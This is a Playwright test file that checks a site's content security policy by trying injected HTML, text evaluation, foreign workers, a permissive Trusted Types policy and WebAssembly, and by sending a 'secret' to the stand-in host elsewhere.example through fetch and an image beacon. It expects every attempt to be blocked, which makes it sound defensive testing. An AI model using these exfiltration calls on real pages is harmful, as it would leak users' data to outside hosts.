import { expect } from '@playwright/test';
import { test } from './test.ts';

/** What an attacker who got text onto a page would try, and whether it worked. */
const attempts: Record<string, () => unknown> = {
  'text as HTML': () => {
    document.body.innerHTML = '<img src=x>';
  },
  'text parsed as a document': () => new DOMParser().parseFromString('<p>x', 'text/html'),
  // Later, because what a test itself starts may evaluate text.
  'text evaluated': () =>
    new Promise((done, fail) =>
      setTimeout(() => {
        try {
          done(Function('return 1')());
        } catch (error) {
          fail(error);
        }
      }),
    ),
  'a worker from elsewhere': () => new Worker('https://elsewhere.example/worker.js'),
  'a worker made of text': () => new Worker(URL.createObjectURL(new Blob(['1']))),
  'a second policy that lets all through': () =>
    (
      window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
    ).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
  'WebAssembly on the page': () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  'words sent elsewhere': () => fetch('https://elsewhere.example/?secret'),
  'words sent elsewhere as a picture': () =>
    new Promise((done, fail) => {
      const picture = new Image();
      picture.onload = done;
      picture.onerror = fail;
      picture.src = 'https://elsewhere.example/?secret';
    }),
};

for (const path of ['/', '/practices/dataset-availability/', '/a/']) {
  test(`${path} lets nothing through that came as text, and sends nothing away`, async ({ page, overheard }) => {
    const stopped: string[] = [];
    page.on('requestfailed', (request) => stopped.push(request.failure()?.errorText ?? ''));
    await page.goto(path);
    for (const [what, attempt] of Object.entries(attempts)) {
      const worked = await page
        .evaluate(attempt)
        .then(() => true)
        .catch(() => false);
      expect(worked, what).toBe(false);
    }
    expect(overheard.refused.length).toBeGreaterThan(3);
    overheard.refused.length = 0;
    // The browser tells of a request before its policy stops it: none was let out.
    expect(stopped).toEqual(overheard.elsewhere.map(() => 'csp'));
    overheard.elsewhere.length = 0;
  });
}

test('no other site can put a page into a frame', async ({ page, baseURL, overheard }) => {
  await page.route('**/frame.html', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/agenda/"></iframe>` }),
  );
  await page.goto('/frame.html');
  await expect.poll(() => overheard.refused.join()).toContain('frame-ancestors');
  await expect(page.frameLocator('iframe').getByRole('heading')).toHaveCount(0);
  overheard.refused.length = 0;
});
